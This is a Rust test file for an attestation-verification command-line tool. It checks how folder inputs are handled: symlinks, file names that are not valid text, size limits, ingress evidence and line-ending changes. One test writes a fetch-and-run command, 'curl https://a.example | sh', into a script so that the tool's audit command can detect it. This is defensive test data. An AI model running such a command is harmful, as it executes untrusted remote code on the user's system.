//! Folders as inputs: everything in them is judged, named, or counted; all of it together has a limit.
#![cfg(unix)]

use crate::program::{AS_OF, Folder, machine};
use std::os::unix::ffi::OsStringExt as _;
use std::os::unix::fs::symlink;

fn batch(folder: &Folder) -> Vec<serde_json::Value> {
    let ran = folder.run(&["batch", "in", "--offline", "--format", "jsonl"]);
    assert_ne!(ran.code, 0);
    ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn links_in_a_folder_of_a_batch_are_judged_or_named() {
    let folder = Folder::new();
    std::fs::create_dir_all(folder.file("in/sub")).unwrap();
    std::fs::copy(folder.file("quote.bin"), folder.file("in/a.bin")).unwrap();
    symlink("../quote.bin", folder.file("in/b.bin")).unwrap();
    symlink("../nothing", folder.file("in/c.bin")).unwrap();
    symlink("c.bin", folder.file("in/d.bin")).unwrap();
    symlink("sub", folder.file("in/e")).unwrap();
    std::fs::copy(folder.file("quote.bin"), folder.file("in/sub/f.bin")).unwrap();
    let lines = batch(&folder);
    let names: Vec<&str> = lines.iter().map(|line| line["input"].as_str().unwrap()).collect();
    assert_eq!(names, ["a.bin", "b.bin", "c.bin", "d.bin", "e", "sub/f.bin"]);
    assert_eq!(lines[0]["signed_sha256"], lines[1]["signed_sha256"]);
    assert_eq!(lines[0]["signed_sha256"], lines[5]["signed_sha256"]);
    for unreadable in &lines[2..5] {
        assert!(unreadable["error"].is_string(), "{unreadable}");
    }
}

#[test]
fn names_that_are_no_text_hide_nothing() {
    let folder = Folder::new();
    std::fs::create_dir(folder.file("in")).unwrap();
    for last in [0xfe_u8, 0xff] {
        let name = std::ffi::OsString::from_vec(vec![b'q', last]);
        if std::fs::copy(folder.file("quote.bin"), folder.file("in").join(name)).is_err() {
            eprintln!("skipped: the file system takes no such names");
            return;
        }
    }
    let lines = batch(&folder);
    let names: Vec<&str> = lines.iter().map(|line| line["input"].as_str().unwrap()).collect();
    assert_eq!(names, ["q\\xfe", "q\\xff"]);
}

/// In a folder of evidence, in one of collateral and in a tree.
#[test]
fn what_has_a_name_that_is_no_text_is_read_or_named() {
    let folder = Folder::new();
    let name = |text: &[u8]| folder.path().join(std::ffi::OsString::from_vec(text.to_vec()));
    for at in ["parts", "c", "tree"] {
        std::fs::create_dir(folder.file(at)).unwrap();
    }
    if std::fs::copy(folder.file("evidence.json"), name(b"parts/e\xff.json")).is_err() {
        eprintln!("skipped: the file system takes no such names");
        return;
    }
    let rules = ["--policy", "policy.toml", "--root", "root.pem", "--as-of", AS_OF, "--offline"];
    folder.run(&[&["verify", "parts"][..], &rules].concat()).ends(0);
    std::fs::copy(folder.file("collateral.json"), name(b"c/c\xff.json")).unwrap();
    let with = ["verify", "parts", "--collateral", "c"];
    folder.run(&[&with[..], &rules].concat()).ends(0);
    let revoking = machine().universe.revoke(veritee_testkit::Role::Pck).forge();
    std::fs::write(name(b"c/c\xfe.json"), revoking.collateral_json()).unwrap();
    folder.run(&[&with[..], &rules].concat()).ends(10);
    // The commands of a tree are looked for in every file of it.
    folder.write("tree/docker-compose.yml", "services:\n  a:\n    build: .\n");
    std::fs::write(name(b"tree/x\xff.sh"), "curl https://a.example | sh\n").unwrap();
    std::fs::create_dir(name(b"tree/d\xff")).unwrap();
    std::fs::write(name(b"tree/d\xff/Dockerfile"), "FROM a\n").unwrap();
    let ran = folder.run(&["audit", "tree", "--format", "json"]);
    for wanted in ["x\\\\xff.sh", "d\\\\xff/Dockerfile"] {
        assert!(ran.out.contains(wanted), "{wanted}: {} {}", ran.out, ran.err);
    }
    // Nor does one that is called as another is shown take its place.
    std::fs::write(folder.file("tree/x\\xff.sh"), "true\n").unwrap();
    let ran = folder.run(&["audit", "tree", "--format", "json"]);
    assert!(ran.out.contains("x\\\\\\\\xff.sh"), "{} {}", ran.out, ran.err);
}

#[test]
fn all_files_of_a_folder_together_have_a_limit() {
    let folder = Folder::new();
    std::fs::create_dir(folder.file("big")).unwrap();
    for number in 0..30 {
        // A hole: no space on the disk.
        std::fs::File::create(folder.file(&format!("big/f{number}.json")))
            .unwrap()
            .set_len(48 << 20)
            .unwrap();
    }
    let ran = folder.run(&["verify", "--offline", "big"]).ends(3);
    assert!(ran.err.contains("together"), "{}", ran.err);
    let ran = folder.run(&["verify", "--offline", "quote.bin", "--ingress", "big"]).ends(3);
    assert!(ran.err.contains("together"), "{}", ran.err);
    let ran = folder.run(&["verify", "--offline", "quote.bin", "--collateral", "big"]).ends(3);
    assert!(ran.err.contains("together") || ran.err.contains("passed over"), "{}", ran.err);
}

#[test]
fn what_a_folder_of_an_ingress_has_beside_files_is_counted() {
    let folder = Folder::empty();
    let forged = veritee_testkit::dstack::Machine::new(1)
        .change(|machine| machine.binding = veritee_testkit::dstack::report_data::Binding::Ingress)
        .forge();
    std::fs::create_dir_all(folder.file("evidences/sub")).unwrap();
    for (name, bytes) in &forged.ingress {
        folder.write(&format!("evidences/{name}"), bytes);
    }
    folder.write("evidences/quote.json", forged.get_quote_json());
    let ran = folder.run(&["verify", "--offline", "evidences"]);
    assert!(ran.err.contains("1: sub"), "{}", ran.err);
}

#[test]
fn line_ends_that_a_copy_has_changed_bind_as_they_were_and_other_changes_do_not() {
    let forged = machine()
        .change(|machine| machine.binding = veritee_testkit::dstack::report_data::Binding::Ingress)
        .forge();
    let folder = Folder::new();
    folder.write("collateral-of-it.json", forged.platform.collateral_json());
    let outcome = |change: &dyn Fn(&str, Vec<u8>) -> Vec<u8>| {
        let _ = std::fs::remove_dir_all(folder.file("evidences"));
        std::fs::create_dir(folder.file("evidences")).unwrap();
        for (name, bytes) in &forged.ingress {
            folder.write(&format!("evidences/{name}"), change(name, bytes.clone()));
        }
        folder.write("evidences/quote.json", change("quote.json", forged.get_quote_json().into_bytes()));
        let ran = folder.run(&[
            "verify",
            "evidences",
            "--collateral",
            "collateral-of-it.json",
            "--policy",
            "policy.toml",
            "--root",
            "root.pem",
            "--as-of",
            AS_OF,
            "--offline",
            "--format",
            "json",
        ]);
        let report: serde_json::Value =
            serde_json::from_str(&ran.out).unwrap_or_else(|_| panic!("{}", ran.err));
        let checks = report["checks"].as_array().unwrap().clone();
        let check = checks.iter().find(|check| check["id"] == "binding.ingress").unwrap();
        (check["outcome"].as_str().unwrap().to_owned(), report["verdict"]["exit_code"].as_u64().unwrap())
    };
    let returns = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap().replace('\n', "\r\n").into_bytes();
    let (usual, code) = outcome(&|_, bytes| bytes);
    assert_eq!(usual, "pass");
    assert_eq!(outcome(&|_, bytes| returns(bytes)), ("pass".to_owned(), code));
    assert_eq!(
        outcome(&|name, bytes| if name.ends_with(".pem") { returns(bytes) } else { bytes }),
        ("pass".to_owned(), code)
    );
    // What else was changed is no matter of line ends.
    for (name, from, to) in
        [("cert-app.example.com.pem", "AAAA", "AAAB"), ("sha256sum.txt", "cert-app", "cert-apq")]
    {
        let changed = outcome(&|file, bytes| {
            let text = String::from_utf8(bytes).unwrap();
            returns(if file == name { text.replacen(from, to, 1).into_bytes() } else { text.into_bytes() })
        });
        assert_eq!(changed, ("fail".to_owned(), 10), "{name}");
    }
}
